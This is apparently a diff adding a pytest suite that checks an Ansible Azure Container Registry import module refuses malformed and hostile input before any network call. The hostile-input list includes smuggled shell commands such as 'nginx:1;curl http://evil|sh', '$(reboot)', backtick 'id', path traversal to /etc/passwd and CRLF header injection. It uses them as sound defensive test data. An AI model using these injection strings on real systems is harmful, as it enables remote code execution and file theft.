@@ -1,0 +1,258 @@
+# Copyright (c) 2026 acrops.registry contributors
+# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""acr_import refuses bad input before any network call, with a message that says what to write instead.
+
+Every case runs the real module entry point (main(), through AnsibleModule's argument handling) with the client
+factory replaced by a trap and sockets disabled: a case that got past validation would hit the trap. Hostile strings
+(newlines, '..', shell metacharacters, look-alike characters, 10 MB values) must be refused quickly, with a short
+message that never echoes a secret.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import io
+import json
+import socket
+import time
+
+import pytest
+
+from ansible.module_utils.testing import patch_module_args
+
+from ansible_collections.acrops.registry.plugins.modules import acr_import
+
+DIGEST = "sha256:" + "a" * 64
+SUBSCRIPTION = "00000000-1111-2222-3333-444444444444"
+REGISTRY_ID = "/subscriptions/%s/resourceGroups/rg-dev/providers/Microsoft.ContainerRegistry/registries/devregistry" % SUBSCRIPTION
+BIG = "a" * (10 * 1024 * 1024)
+SECRET = "Planted-Secret-7f3c9e-do-not-print"
+# Words that show a message tells the user what to do (or the rule to follow), not only that something is wrong.
+ADVICE = ("write", "e.g.", "use ", "set ", "give", "omit", "drop", "remove", "retype", "list ", "instead", "check ", "must", "at most",
+          "at least", "listed twice", "two sources")
+# Refusals worded by AnsibleModule itself (argument spec), not by the module.
+ANSIBLE_WORDING = ("mutually exclusive", "one of the following", "dictionary requested", "Unsupported parameters")
+
+
+class NetworkTouched(AssertionError):
+    pass
+
+
+@pytest.fixture(autouse=True)
+def offline(monkeypatch, tmp_path):
+    """No Azure settings from this machine, no profile file, no client factory and no sockets."""
+    for name in ("AZURE_SUBSCRIPTION_ID", "AZURE_CLIENT_ID", "AZURE_SECRET", "AZURE_CLIENT_SECRET", "AZURE_TENANT", "AZURE_TENANT_ID",
+                 "AZURE_CLOUD_ENVIRONMENT", "AZURE_PROFILE", "AZURE_FEDERATED_TOKEN_FILE"):
+        monkeypatch.delenv(name, raising=False)
+    monkeypatch.setenv("HOME", str(tmp_path))
+
+    def trap(*args, **kwargs):
+        raise NetworkTouched("validation let the input through to the network layer")
+
+    monkeypatch.setattr(acr_import, "build", trap)
+    monkeypatch.setattr(socket.socket, "connect", trap)
+    monkeypatch.setattr(socket, "create_connection", trap)
+
+
+def run_module(params):
+    """main() with these module arguments -> (result dict, seconds). fail_json/exit_json end with SystemExit."""
+    out = io.StringIO()
+    started = time.monotonic()
+    with patch_module_args(params), contextlib.redirect_stdout(out):
+        with pytest.raises(SystemExit):
+            acr_import.main()
+    elapsed = time.monotonic() - started
+    return json.loads(out.getvalue()), elapsed
+
+
+def refused(params):
+    result, elapsed = run_module(params)
+    assert result.get("failed") is True, result
+    assert result.get("changed") is False or "changed" not in result
+    assert elapsed < 2.0, "validation took %.1f s" % elapsed
+    return result["msg"]
+
+
+BASE = dict(registry="myregistry", subscription_id=SUBSCRIPTION)
+
+
+def case(**params):
+    return dict(BASE, **params)
+
+
+# ---- nonsense option combinations --------------------------------------------------------------------------------
+NONSENSE = [
+    # (id, params, fragments that must all be in the message)
+    ("username-without-password", case(source="nginx:1.25", source_username="bot"), ["without source_password", "source_password"]),
+    ("batch-username-without-password", case(images=[{"source": "nginx:1.25", "source_username": "bot"}]), ["images[0]", "without source_password"]),
+    ("default-username-without-password", case(source_username="bot", images=[{"source": "nginx:1.25"}]), ["without source_password"]),
+    ("source-registry-and-host", case(source="ghcr.io/org/app:1", source_registry="devregistry"), ["names a registry host", "'org/app:1'"]),
+    ("source-registry-and-password", case(source="app:1", source_registry="devregistry", source_password="x"), ["source_registry", "drop"]),
+    ("empty-targets", case(source="nginx:1.25", targets=[]), ["empty list", "omit it", "nginx:1.25"]),
+    ("empty-batch-targets", case(images=[{"source": "nginx:1.25", "targets": []}]), ["empty list"]),
+    ("digest-only-no-targets", case(source="app@" + DIGEST), ["digest only", "set targets"]),
+    ("digest-only-untagged-target", case(source="app@" + DIGEST, targets=["app"]), ["no tag", "app:TAG"]),
+    ("target-with-digest", case(source="nginx:1.25", targets=["web@" + DIGEST]), ["has a digest", "'web'"]),
+    ("target-tag-and-digest", case(source="nginx:1.25", targets=["web:1@" + DIGEST]), ["has a digest", "'web:1'"]),
+    ("two-digests", case(source="nginx@%s@%s" % (DIGEST, DIGEST)), ["more than one '@'", "write one digest"]),
+    ("bad-digest", case(source="nginx@sha256:abc"), ["digest", "64"]),
+    ("untagged-with-tag", case(source="nginx:1.25", untagged_repositories=["archive/nginx:1"]), ["has a tag", "'archive/nginx'"]),
+    ("untagged-with-digest", case(source="nginx:1.25", untagged_repositories=["archive/nginx@" + DIGEST]), ["has a digest"]),
+    ("uppercase-source", case(source="Library/NGINX:1.25"), ["lowercase", "write 'nginx'"]),
+    ("uppercase-target", case(source="nginx:1.25", targets=["Mirror/nginx:1.25"]), ["lowercase", "'mirror/nginx'"]),
+    ("uppercase-untagged", case(source="nginx:1.25", untagged_repositories=["Archive/nginx"]), ["lowercase", "'archive/nginx'"]),
+    ("uppercase-batch", case(images=[{"source": "GHCR.io/Org/App:1"}]), ["lowercase"]),
+    ("repository-too-long", case(source="nginx:1.25", targets=["a" * 256 + ":1"]), ["too long", "255"]),
+    ("tag-too-long", case(source="nginx:" + "1" * 129), ["128"]),
+    ("reference-too-long", case(source="a/" * 600 + "b:1"), ["longer than 1024"]),
+    ("duplicate-target", case(source="nginx:1.25", targets=["web:1", "web:1"]), ["listed twice"]),
+    ("target-two-sources", case(images=[{"source": "nginx:1.25", "targets": ["web:1"]}, {"source": "httpd:2", "targets": ["web:1"]}]),
+     ["two sources", "images[0]", "images[1]"]),
+    ("login-server-as-registry", case(registry="myregistry.azurecr.io", source="nginx:1"), ["not a registry name", "'myregistry'"]),
+    ("registry-too-short", case(registry="acr", source="nginx:1"), ["not a registry name", "5-50"]),
+    ("registry-too-long", case(registry="r" * 51, source="nginx:1"), ["not a registry name", "5-50"]),
+    ("registry-hyphen", case(registry="my-registry", source="nginx:1"), ["not a registry name"]),
+    ("registry-empty", case(registry="", source="nginx:1"), ["not a registry name"]),
+    ("registry-trailing-newline", case(registry="myregistry\n", source="nginx:1"), ["registry"]),
+    ("source-registry-bad-name", case(source="app:1", source_registry="dev registry"), ["source_registry", "e.g."]),
+    ("source-registry-bad-id", case(source="app:1", source_registry=REGISTRY_ID.replace("rg-dev", "rg/../x")), ["source_registry"]),
+    ("source-registry-id-bad-subscription", case(source="app:1", source_registry=REGISTRY_ID.replace(SUBSCRIPTION, "..")), ["source_registry"]),
+    ("batch-source-registry-bad", case(images=[{"source": "app:1", "source_registry": "x;y"}]), ["source_registry", "images[0]"]),
+    ("resource-group-dotdot", case(source="nginx:1", resource_group=".."), ["resource_group", "write"]),
+    ("resource-group-slash", case(source="nginx:1", resource_group="rg/../../other"), ["resource_group"]),
+    ("resource-group-too-long", case(source="nginx:1", resource_group="g" * 91), ["resource_group", "90"]),
+    ("subscription-not-guid", case(source="nginx:1", subscription_id="my-subscription"), ["subscription_id", "GUID"]),
+    ("subscription-traversal", case(source="nginx:1", subscription_id="../../providers"), ["subscription_id"]),
+    ("tenant-traversal", case(source="nginx:1", tenant="../evil", client_id="c", secret=SECRET), ["tenant"]),
+    ("unknown-cloud", case(source="nginx:1", cloud_environment="AzureMoonCloud"), ["unknown cloud_environment", "AzureCloud"]),
+    ("http-cloud", case(source="nginx:1", cloud_environment="http://management.example.com"), ["https://"]),
+    ("secret-without-client-id", case(source="nginx:1", secret=SECRET), ["client_id"]),
+    ("service-principal-without-tenant", case(source="nginx:1", client_id="c", secret=SECRET), ["tenant"]),
+    ("empty-images", case(images=[]), ["empty list", "use source"]),
+    ("source-and-images", case(source="nginx:1", images=[{"source": "httpd:2"}]), ["mutually exclusive"]),
+    ("neither-source-nor-images", case(), ["source", "images"]),
+    ("empty-source", case(source=""), ["empty"]),
+    ("blank-source", case(source="   "), ["empty", "write"]),
+    ("concurrency-zero", case(source="nginx:1", concurrency=0), ["concurrency", "at least 1"]),
+    ("concurrency-negative", case(source="nginx:1", concurrency=-4), ["concurrency", "at least 1"]),
+    ("timeout-zero", case(source="nginx:1", timeout=0), ["timeout", "at least 1"]),
+    ("polling-interval-zero", case(source="nginx:1", polling_interval=0), ["polling_interval", "at least 1"]),
+    ("url-as-source", case(source="https://ghcr.io/org/app:1"), ["URL", "drop"]),
+    ("image-id-as-source", case(source="f" * 64), ["64-digit hex"]),
+    ("batch-entry-not-a-mapping", case(images=["nginx:1"]), ["dictionary"]),
+    ("batch-unknown-key", case(images=[{"source": "nginx:1", "tag": "2"}]), ["tag"]),
+]
+
+
+@pytest.mark.parametrize("params, fragments", [c[1:] for c in NONSENSE], ids=[c[0] for c in NONSENSE])
+def test_nonsense_fails_before_any_call_and_says_what_to_write(params, fragments):
+    msg = refused(params)
+    for fragment in fragments:
+        assert fragment in msg, "%r not in %r" % (fragment, msg)
+    if not any(words in msg for words in ANSIBLE_WORDING):
+        assert any(word in msg for word in ADVICE), "no advice in %r" % msg
+
+
+# ---- hostile strings ---------------------------------------------------------------------------------------------
+HOSTILE = {
+    "newline": "nginx\n:1",
+    "trailing-newline": "nginx:1\n",
+    "crlf-header": "nginx:1\r\nX-Injected: 1",
+    "nul": "nginx\x00:1",
+    "dotdot": "../../etc/passwd",
+    "dotdot-inner": "a/../b",
+    "shell-subst": "$(reboot)",
+    "shell-chain": "nginx:1;curl http://evil|sh",
+    "backticks": "`id`",
+    "glob": "nginx:*",
+    "cyrillic-lookalike": "ngi\u043dx:1",
+    "fullwidth-colon": "nginx\uff1a1",
+    "zero-width": "ngi\u200bnx:1",
+    "rtl-override": "nginx\u202e1:",
+    "huge": BIG,
+}
+
+# Options whose strings end up in URLs, paths or request bodies: every hostile value must be refused.
+NAME_FIELDS = {
+    "registry": lambda v: case(registry=v, source="nginx:1"),
+    "resource_group": lambda v: case(resource_group=v, source="nginx:1"),
+    "source": lambda v: case(source=v),
+    "targets": lambda v: case(source="nginx:1", targets=[v]),
+    "untagged_repositories": lambda v: case(source="nginx:1", untagged_repositories=[v]),
+    "source_registry": lambda v: case(source="app:1", source_registry=v),
+    "subscription_id": lambda v: case(source="nginx:1", subscription_id=v),
+    "tenant": lambda v: case(source="nginx:1", tenant=v, client_id="c", secret=SECRET),
+    "cloud_environment": lambda v: case(source="nginx:1", cloud_environment=v),
+    "images.source": lambda v: case(images=[{"source": "nginx:1"}, {"source": v}]),
+    "images.targets": lambda v: case(images=[{"source": "nginx:1", "targets": [v]}]),
+    "images.source_registry": lambda v: case(images=[{"source": "app:1", "source_registry": v}]),
+}
+# Azure allows Unicode letters in resource group names, so look-alikes there are valid names (they fail at ARM).
+VALID_THERE = {("resource_group", "cyrillic-lookalike")}
+
+
+@pytest.mark.parametrize("field", sorted(NAME_FIELDS))
+@pytest.mark.parametrize("kind", sorted(HOSTILE))
+def test_hostile_strings_are_refused_cleanly(field, kind):
+    if (field, kind) in VALID_THERE:
+        pytest.skip("a valid value for this field")
+    msg = refused(NAME_FIELDS[field](HOSTILE[kind]))
+    assert len(msg) < 1500, "the message echoes the input (%d characters)" % len(msg)
+    assert "\n" not in msg and "\r" not in msg and "\x00" not in msg, "the message carries the raw control character: %r" % msg[:300]
+    assert "Traceback" not in msg
+
+
+@pytest.mark.parametrize("field", ["label", "source_username"])
+@pytest.mark.parametrize("kind", ["newline", "crlf-header", "nul", "huge"])
+def test_free_text_options_refuse_control_characters_and_huge_values(field, kind):
+    entry = {"source": "nginx:1", field: HOSTILE[kind]}
+    if field == "source_username":
+        entry["source_password"] = "p"
+    msg = refused(case(images=[entry]))
+    assert len(msg) < 1500 and "\n" not in msg and "\x00" not in msg
+
+
+@pytest.mark.parametrize("field", ["source_password", "secret"])
+def test_a_huge_secret_is_refused_without_echoing_it(field):
+    params = case(source="nginx:1", **{field: SECRET + BIG})
+    if field == "secret":
+        params.update(client_id="c", tenant="t")
+    else:
+        params.update(source_username="bot")
+    msg = refused(params)
+    assert SECRET not in msg and len(msg) < 500
+
+
+@pytest.mark.parametrize("field", ["source_password", "secret"])
+def test_secrets_in_refusals_are_never_echoed(field):
+    # Refused for another reason (bad registry): the secret appears nowhere in the output.
+    params = case(registry="bad-name", source="nginx:1", **{field: SECRET})
+    if field == "secret":
+        params.update(client_id="c", tenant="t")
+    result, dummy = run_module(params)
+    assert result["failed"] and SECRET not in json.dumps(result)
+
+
+# ---- what is accepted reaches the network layer (the trap), so the tests above really test validation ------------
+ACCEPTED = [
+    case(source="nginx:1.25"),
+    case(source="nginx:1.25@" + DIGEST, targets=["web:1", "mirror/web"]),
+    case(source="team/app:7", source_registry="devregistry"),
+    case(source="team/app:7", source_registry="devregistry.azurecr.io"),
+    case(source="team/app:7", source_registry=REGISTRY_ID),
+    case(source="ghcr.io/org/app:1", source_password="token-only"),
+    case(source="app@" + DIGEST, untagged_repositories=["archive/app"]),
+    case(source="nginx:1", resource_group="rg-mirror_(prod).1"),
+    case(source="nginx:1", tenant="contoso.onmicrosoft.com", client_id="c", secret=SECRET),
+    case(source="nginx:1", cloud_environment="AzureChinaCloud"),
+    case(source="nginx:1", cloud_environment="https://management.local.azurestack.external"),
+    case(images=[{"source": "nginx:1", "label": "group_vars/all.yml: acr_mirror_images__base[0]"},
+                 {"source": "quay.io/prometheus/prometheus:v2.48.0", "targets": ["prometheus:v2.48.0"]}], concurrency=1),
+]
+
+
+@pytest.mark.parametrize("params", ACCEPTED, ids=range(len(ACCEPTED)))
+def test_valid_input_gets_past_validation(params):
+    with pytest.raises(NetworkTouched):
+        run_module(params)
